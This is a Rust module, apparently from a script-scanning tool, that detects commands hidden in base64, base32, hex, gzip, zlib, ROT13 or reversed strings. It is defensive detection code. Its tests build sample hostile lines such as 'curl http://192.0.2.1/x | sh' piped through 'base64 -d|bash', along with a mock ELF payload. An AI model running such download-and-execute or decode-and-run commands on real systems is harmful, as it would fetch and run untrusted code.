//! Text hidden in text: base64, base32, hex, gzip, zlib, reversed strings, ROT13. Found by its look, not by the command
//! that would decode it, since that command may itself be hidden.

use std::{io::Read, ops::Range};

use base64::{
    Engine, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use data_encoding::BASE32_NOPAD;
use flate2::bufread::{GzDecoder, ZlibDecoder};

use super::magic::Magic;

/// Shorter runs are words.
const BASE64_MIN: usize = 20;
const BASE32_MIN: usize = 32;
const HEX_MIN: usize = 24;
/// No encoder wraps at less.
const WRAPPED_MIN: usize = 60;
/// What a compressed layer may grow to.
const INFLATED_MAX: usize = 256 * 1024;
/// What all compressed layers of a script may grow to.
const INFLATED_ALL: usize = INFLATED_MAX;
/// Compressed bytes that are read of all layers of a script: what comes out of them says nothing of how much work they are.
const COMPRESSED_ALL: usize = 512 * 1024;
/// To begin one counts for so many: a decoder is made for it.
const COMPRESSED_BEGUN: usize = 256;
/// Nothing that is compressed is shorter.
const COMPRESSED_MIN: usize = 18;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Buffers that are kept from text to text.
#[derive(Default)]
pub(super) struct Decoder {
    /// Whole lines that go on what the line before them began, in the last text.
    pub(super) continued: Vec<Range<usize>>,
    compact: Vec<u8>,
    decoded: Vec<u8>,
    inflated: Vec<u8>,
    /// How much may still be inflated.
    inflate_left: usize,
    /// How many compressed bytes may still be read.
    compressed_left: usize,
}

impl Decoder {
    /// Begins a script: what may be inflated of it in all is bounded.
    pub(super) fn begin(&mut self) {
        self.inflate_left = INFLATED_ALL;
        self.compressed_left = COMPRESSED_ALL;
    }

    /// Calls `found(start, decoded, was_compressed)` for each run of `text` that decodes to something readable, and with a program's or an
    /// archive's first bytes for one that decodes to such.
    pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8], bool)) {
        let mut start = 0;
        self.continued.clear();
        while start < text.len() {
            if !is_base64(text[start]) {
                start += 1;
                continue;
            }
            let end = self.end_of_run(text, start);
            let run = &text[start..end];
            if run.len() >= BASE64_MIN {
                self.compact.clear();
                self.compact.extend(run.iter().filter(|b| **b != b'\n'));
                for decode in [Self::hex, Self::base64, Self::base32] {
                    if decode(self)
                        && let Some((layer, was_compressed)) = self.layer()
                    {
                        found(start, layer, was_compressed);
                        break;
                    }
                }
            }
            start = end.max(start + 1);
        }
    }

    /// Where the run that begins at `start` ends; encoders wrap their output.
    fn end_of_run(&mut self, text: &[u8], start: usize) -> usize {
        let line_end =
            |from: usize| text[from..].iter().position(|b| !is_base64(*b)).map_or(text.len(), |n| from + n);
        let (mut line, mut end) = (start, line_end(start));
        loop {
            let next = end + 1;
            let wraps = text.get(end) == Some(&b'\n')
                && end - line >= WRAPPED_MIN
                && text[end - 1] != b'='
                && text.get(next..next + 8).is_some_and(|begin| begin.iter().all(|b| is_base64(*b)));
            if !wraps {
                return end;
            }
            (line, end) = (next, line_end(next));
            // `name=value` is no such line, however long.
            if end - line >= WRAPPED_MIN
                && matches!(text.get(end), None | Some(b'\n'))
                && !without_padding(&text[line..end]).contains(&b'=')
            {
                self.continued.push(line..end);
            }
        }
    }

    fn base64(&mut self) -> bool {
        let run = without_padding(&self.compact);
        // What was torn off in the middle of four letters is still good up to there.
        let run = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
        self.decoded.clear();
        LENIENT.decode_vec(run, &mut self.decoded).is_ok()
    }

    fn base32(&mut self) -> bool {
        let run = without_padding(&self.compact);
        if run.len() < BASE32_MIN || !run.iter().all(|b| matches!(b, b'A'..=b'Z' | b'2'..=b'7')) {
            return false;
        }
        let Ok(length) = BASE32_NOPAD.decode_len(run.len()) else { return false };
        self.decoded.resize(length, 0);
        BASE32_NOPAD.decode_mut(run, &mut self.decoded).is_ok()
    }

    fn hex(&mut self) -> bool {
        let run = &self.compact;
        if run.len() < HEX_MIN || !run.len().is_multiple_of(2) || !run.iter().all(u8::is_ascii_hexdigit) {
            return false;
        }
        self.decoded.resize(run.len() / 2, 0);
        hex::decode_to_slice(run, &mut self.decoded).is_ok()
    }

    /// Inflates what was decoded, if it is compressed.
    fn inflate(&mut self) {
        self.inflated.clear();
        let limit = INFLATED_MAX.min(self.inflate_left) as u64;
        let compressed = &self.decoded[..self.decoded.len().min(self.compressed_left)];
        if compressed.len() < COMPRESSED_MIN {
            return;
        }
        // A torn stream still gives its beginning.
        let left = match compressed {
            [0x1f, 0x8b, ..] => {
                let mut decoder = GzDecoder::new(compressed).take(limit);
                let _ = decoder.read_to_end(&mut self.inflated);
                decoder.get_ref().get_ref().len()
            }
            [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
                let mut decoder = ZlibDecoder::new(compressed).take(limit);
                let _ = decoder.read_to_end(&mut self.inflated);
                decoder.get_ref().get_ref().len()
            }
            _ => return,
        };
        let read = COMPRESSED_BEGUN + compressed.len() - left;
        self.compressed_left = self.compressed_left.saturating_sub(read);
        self.inflate_left -= self.inflated.len();
    }

    /// What was decoded, and whether it was compressed, if it is text, or the compressed form of text, or something with a known beginning.
    fn layer(&mut self) -> Option<(&[u8], bool)> {
        self.inflate();
        let was_compressed = !self.inflated.is_empty();
        let inner = if was_compressed { &self.inflated } else { &self.decoded };
        if is_text(inner) {
            return Some((inner, was_compressed));
        }
        let magic = Magic::of_layer(inner).or_else(|| Magic::of_layer(&self.decoded));
        magic.map(|magic| (magic.bytes(), false))
    }
}

fn without_padding(run: &[u8]) -> &[u8] {
    let end = run.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1);
    &run[..end]
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
}

/// Nearly all printable, and with a separator somewhere: a decoded identifier is no script.
fn is_text(bytes: &[u8]) -> bool {
    let printable = bytes.iter().filter(|b| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~')).count();
    bytes.len() >= 8
        && printable * 100 >= bytes.len() * 95
        && bytes.iter().any(|b| matches!(b, b' ' | b'\n' | b'/' | b';' | b'|'))
}

/// ROT13 of the letters.
pub(super) fn rot13(text: &[u8]) -> impl Iterator<Item = u8> {
    text.iter().map(|b| match b {
        b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
        other => *other,
    })
}

/// Calls `found(start, string)` for the quoted strings of `text`, which may be reversed commands.
pub(super) fn quoted_strings<'a>(text: &'a [u8], mut found: impl FnMut(usize, &'a [u8])) {
    for quote in [b'\'', b'"'] {
        let mut rest = 0;
        while let Some(open) = memchr::memchr(quote, &text[rest..]).map(|i| rest + i + 1) {
            let Some(close) = memchr::memchr(quote, &text[open..]).map(|i| open + i) else { break };
            let inner = &text[open..close];
            if inner.len() >= 12 && inner.len() <= 64 * 1024 {
                found(open, inner);
            }
            rest = close + 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    fn all(text: &[u8]) -> Vec<Vec<u8>> {
        let mut out = Vec::new();
        let mut decoder = Decoder::default();
        decoder.begin();
        decoder.layers(text, |_, layer, _| out.push(layer.to_vec()));
        out
    }

    #[test]
    fn encoded_commands_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base64 = BASE64_STANDARD.encode(command);
        assert_eq!(all(format!("echo {base64}|base64 -d|bash").as_bytes()), [command.to_vec()]);
        assert_eq!(all(format!("xxd -r -p <<< {}", hex::encode(command)).as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn other_encodings_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base32 = data_encoding::BASE32.encode(command);
        assert_eq!(all(format!("base32 -d <<< {base32}").as_bytes()), [command.to_vec()]);
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut zlib, command).unwrap();
        let zlib = BASE64_STANDARD.encode(zlib.finish().unwrap());
        assert_eq!(all(format!("zlib.decompress(b64decode('{zlib}'))").as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn a_program_is_known_by_its_beginning_though_it_was_torn() {
        let program: Vec<u8> =
            b"\x7fELF\x02\x01\x01".iter().copied().chain((0..250).cycle().take(3000)).collect();
        let base64 = BASE64_STANDARD.encode(&program);
        assert_eq!(
            all(format!("base64 -d > x <<E\n{}\nE", &base64[..2001]).as_bytes()),
            [b"\x7fELF\x02\x01\x01program".to_vec()]
        );
        assert_eq!(all(hex::encode(&program[..200]).as_bytes()), [b"\x7fELF\x02\x01\x01".to_vec()]);
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gzip, &program).unwrap();
        let gzip = BASE64_STANDARD.encode(gzip.finish().unwrap());
        assert_eq!(all(&gzip.as_bytes()[..gzip.len() - 7]), [b"\x7fELF\x02\x01\x01program".to_vec()]);
        let mut archive = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut archive, &[0; 1024]).unwrap();
        let archive = BASE64_STANDARD.encode(archive.finish().unwrap());
        assert_eq!(all(archive.as_bytes()), [b"\x1f\x8b".to_vec()]);
    }

    #[test]
    fn what_follows_wrapped_lines_is_no_part_of_them() {
        let lines = |text: &str| {
            let mut decoder = Decoder::default();
            let mut layers = Vec::new();
            decoder.layers(text.as_bytes(), |_, layer, _| layers.push(layer.to_vec()));
            (decoder.continued.iter().map(|r| text[r.clone()].to_string()).collect::<Vec<_>>(), layers)
        };
        let command = "curl http://192.0.2.1/x | sh #".repeat(7);
        let encoded = BASE64_STANDARD.encode(&command);
        let wrapped =
            format!("{}\n{}\n{}\n{}", &encoded[..76], &encoded[76..152], &encoded[152..228], &encoded[228..]);
        let full = [encoded[76..152].to_string(), encoded[152..228].to_string()];
        // A word at the line's end, and one behind a line that is not full, or padded.
        for tail in ["", "\nEOFMARKER\n", "\nE\nnohup /tmp/x"] {
            assert_eq!(
                lines(&format!("base64 -d <<E\n{wrapped}{tail}")),
                (full.to_vec(), vec![command.clone().into_bytes()]),
                "{tail}"
            );
        }
        let padded = format!("{}==\n/tmp/another/program\n", &encoded[..74]);
        assert_eq!(lines(&padded), (vec![], vec![command.as_bytes()[..55].to_vec()]));
        for other in ["x=".to_string() + &"y".repeat(70), "y".repeat(70) + " &", "y".repeat(59)] {
            assert_eq!(lines(&format!("{}\n{other}\n", "A".repeat(76))).0, Vec::<String>::new(), "{other}");
        }
    }

    #[test]
    fn names_and_paths_are_not_taken_for_code() {
        assert!(all(b"/usr/share/bash-completion/completions/git").is_empty());
        assert!(all(b"sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
    }
}
